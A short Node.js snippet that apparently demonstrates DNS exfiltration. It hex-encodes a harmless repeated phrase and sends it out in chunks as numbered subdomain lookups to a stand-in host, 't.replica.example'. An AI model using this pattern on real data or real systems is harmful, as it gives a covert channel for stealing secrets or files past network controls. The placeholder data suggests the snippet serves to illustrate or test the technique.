// Data below one domain, piece by piece.
const data = Buffer.from("nothing of worth, again and again. ".repeat(3)).toString("hex");
for (const [number, piece] of data.match(/.{1,40}/g).entries())
    require("dns").lookup(`${number}${piece}.t.replica.example`, () => {});
